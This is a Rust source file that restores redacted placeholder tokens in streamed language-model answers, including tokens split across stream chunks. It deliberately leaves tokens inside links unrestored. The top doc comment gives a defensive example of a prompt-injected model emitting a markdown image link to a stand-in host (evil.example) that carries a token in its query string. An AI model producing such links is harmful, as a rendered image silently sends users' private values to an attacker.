//! Puts tokens back in an answer, also when a token is split over events of a stream.
//!
//! ```text
//! "the valve TA" | "G_7K3M9" | "QXR2W is open"   ->   "the valve " | "" | "FV-203 is open"
//! ```
//!
//! Held back is only what may still become a token of this very call, from its first byte on. The case of a
//! token does not matter; models change it. A token inside a link stays: an answer that a model was talked into,
//! `![](https://evil.example/?q=TAG_7K3M9QXR2W)`, must not carry the value out when a browser draws it.

use crate::link::Link;
use crate::token::{LONGEST_BODY, LONGEST_KIND, is_token};
use plant::{Channel, Form, Rewrite};
use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::ops::Bound;

/// Knows the tokens of one call and puts their values back.
#[derive(Clone, Default)]
pub struct Restorer {
    values: Values,
    texts: BTreeMap<u32, Text>,
    counts: RestoreCounts,
}

/// What a [`Restorer`] met.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct RestoreCounts {
    /// Tokens put back.
    pub restored: u64,
    /// Words that have the form and the check character of a token, but are none of this call's. They stay.
    pub unknown: u64,
    /// Tokens of this call that stay because they stand in a link.
    pub in_links: u64,
}

impl Restorer {
    pub(crate) fn new(values: BTreeMap<String, String>) -> Self {
        Self { values: Values::new(values), texts: BTreeMap::new(), counts: RestoreCounts::default() }
    }

    /// Whether there is nothing to put back, so that an answer may pass unread.
    #[must_use]
    pub fn idle(&self) -> bool {
        self.values.tokens.is_empty()
    }

    /// What was met so far.
    #[must_use]
    pub fn counts(&self) -> RestoreCounts {
        self.counts
    }
}

impl fmt::Debug for Restorer {
    /// Without tokens and values: a log must hold neither.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Restorer")
            .field("values", &self.values.tokens.len())
            .field("counts", &self.counts)
            .finish_non_exhaustive()
    }
}

impl Rewrite for Restorer {
    fn push(&mut self, channel: Channel, text: &str) -> String {
        let state = self.texts.entry(channel.number).or_default();
        state.push(text, false, channel.form, &self.values, &mut self.counts)
    }

    fn finish(&mut self, channel: Channel) -> String {
        let mut state = self.texts.remove(&channel.number).unwrap_or_default();
        state.push("", true, channel.form, &self.values, &mut self.counts)
    }

    fn whole(&mut self, text: &str, form: Form) -> Option<String> {
        let rewritten = Text::default().push(text, true, form, &self.values, &mut self.counts);
        (rewritten != text).then_some(rewritten)
    }

    fn document(&mut self, json: &str) -> Option<String> {
        // Its texts come once more, each by itself, and are counted there.
        let mut uncounted = RestoreCounts::default();
        Some(Text::default().push(json, true, Form::Json, &self.values, &mut uncounted))
    }
}

/// The tokens of one call and their values.
#[derive(Clone, Default)]
struct Values {
    /// Token in capitals to value.
    tokens: BTreeMap<String, String>,
    /// What tokens begin with, `TAG_`: most of an answer is passed by without a look at the tokens.
    kinds: BTreeSet<String>,
}

impl Values {
    fn new(tokens: BTreeMap<String, String>) -> Self {
        let kinds: BTreeSet<String> =
            tokens.keys().filter_map(|token| token.split_inclusive('_').next()).map(str::to_owned).collect();
        Self { tokens, kinds }
    }

    /// Whether `rest` reads like the beginning of a token, as far as it goes.
    fn may_begin(&self, rest: &[u8]) -> bool {
        let begins = |kind: &String| kind.bytes().zip(rest).all(|(kind, byte)| kind == byte.to_ascii_uppercase());
        self.kinds.iter().any(begins)
    }

    /// The first place from `from` on where a token may begin. A kind has its only underscore at its end, so that is looked for.
    fn next(&self, text: &[u8], from: usize) -> Option<usize> {
        let rest = text.get(from..)?;
        let whole = memchr::memchr_iter(b'_', rest).find_map(|underscore| {
            let before = rest.get(..=underscore)?;
            let ends = |kind: &&String| {
                let place = before.len().checked_sub(kind.len()).and_then(|at| before.get(at..));
                place.is_some_and(|place| place.eq_ignore_ascii_case(kind.as_bytes()))
            };
            self.kinds.iter().filter(ends).map(|kind| before.len() - kind.len()).min()
        });
        let cut = || {
            let near = rest.len().saturating_sub(LONGEST_KIND)..rest.len();
            near.into_iter().find(|at| rest.get(*at..).is_some_and(|rest| self.may_begin(rest)))
        };
        whole.or_else(cut).map(|at| from + at)
    }
}

/// One channel's text so far.
#[derive(Clone, Default)]
struct Text {
    /// What may still become a token. Never longer than the longest token.
    held: String,
    link: Link,
    words: Words,
}

/// What stands at a place of the text.
enum Start<'a> {
    Token { length: usize, value: &'a str },
    Undecided,
    Plain,
}

impl Text {
    fn push(&mut self, text: &str, end: bool, form: Form, values: &Values, counts: &mut RestoreCounts) -> String {
        let held = std::mem::take(&mut self.held);
        let input = if held.is_empty() { Cow::Borrowed(text) } else { Cow::Owned(held + text) };
        let mut out = String::with_capacity(input.len());
        let mut rest = input.as_ref();
        while !rest.is_empty() {
            let length = match start(rest, end, values) {
                Start::Undecided => {
                    rest.clone_into(&mut self.held);
                    return out;
                }
                Start::Token { length, value } if !self.link.open() => {
                    // The value is the caller's own and is not watched for links that it may open.
                    put(&mut out, value, form);
                    counts.restored += 1;
                    self.words = Words::default();
                    rest = rest.get(length..).unwrap_or_default();
                    continue;
                }
                Start::Token { length, .. } => {
                    counts.in_links += 1;
                    length
                }
                Start::Plain => plain(rest, values),
            };
            let (passed, after) = rest.split_at_checked(length).unwrap_or((rest, ""));
            self.link.read(passed.as_bytes(), form);
            self.words.read(passed.as_bytes(), values, counts);
            out.push_str(passed);
            rest = after;
        }
        if end {
            self.words.end(values, counts);
        }
        out
    }
}

/// What stands at the beginning of `rest`. No token begins with another, so at most one fits; and it is the
/// greatest that is not greater than the text.
fn start<'a>(rest: &str, end: bool, values: &'a Values) -> Start<'a> {
    if !values.may_begin(rest.as_bytes()) {
        return Start::Plain;
    }
    let mut capitals = [0; LONGEST_KIND + 1 + LONGEST_BODY];
    let letters = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_');
    let length =
        capitals.iter_mut().zip(letters).map(|(capital, letter)| *capital = letter.to_ascii_uppercase()).count();
    let word = capitals.get(..length).and_then(|word| std::str::from_utf8(word).ok()).unwrap_or_default();
    let values = &values.tokens;
    let below = (Bound::Unbounded, Bound::Included(word));
    if let Some((token, value)) =
        values.range::<str, _>(below).next_back().filter(|(token, _)| word.starts_with(*token))
    {
        return Start::Token { length: token.len(), value };
    }
    let above = (Bound::Included(word), Bound::Unbounded);
    let open = !end
        && length == rest.len()
        && values.range::<str, _>(above).next().is_some_and(|(token, _)| token.starts_with(word));
    if open { Start::Undecided } else { Start::Plain }
}

/// How much of `rest` passes before the next place where a token may begin.
fn plain(rest: &str, values: &Values) -> usize {
    let first = rest.chars().next().map_or(0, char::len_utf8);
    values.next(rest.as_bytes(), first).unwrap_or(rest.len())
}

fn put(out: &mut String, value: &str, form: Form) {
    match form {
        Form::Plain => out.push_str(value),
        Form::Json => {
            for character in value.chars() {
                match character {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\r' => out.push_str("\\r"),
                    '\t' => out.push_str("\\t"),
                    control if u32::from(control) < 0x20 => out.push_str(&format!("\\u{:04x}", u32::from(control))),
                    other => out.push(other),
                }
            }
        }
    }
}

/// Follows the words of released text, to count those that look like tokens of another call.
#[derive(Clone, Default)]
struct Words {
    kind: String,
    word: String,
}

impl Words {
    fn read(&mut self, mut rest: &[u8], values: &Values, counts: &mut RestoreCounts) {
        loop {
            let length = rest.iter().take_while(|b| b.is_ascii_alphanumeric()).count();
            let (word, behind) = rest.split_at(length);
            let Some((ender, after)) = behind.split_first() else { return self.take(word) };
            if self.kind.is_empty() && *ender != b'_' {
                // Neither half of a token.
                self.word.clear();
            } else {
                self.take(word);
                self.end(values, counts);
                if *ender != b'_' {
                    self.kind.clear();
                }
            }
            rest = after;
        }
    }

    fn take(&mut self, word: &[u8]) {
        // One more than the longest, so that longer ones are known to be too long.
        let room = (LONGEST_BODY + 1).saturating_sub(self.word.len());
        self.word.extend(word.iter().take(room).map(|byte| char::from(byte.to_ascii_uppercase())));
    }

    fn end(&mut self, values: &Values, counts: &mut RestoreCounts) {
        if is_token(&self.kind, &self.word) && !values.tokens.contains_key(&format!("{}_{}", self.kind, self.word)) {
            counts.unknown += 1;
        }
        std::mem::swap(&mut self.kind, &mut self.word);
        self.word.clear();
    }
}
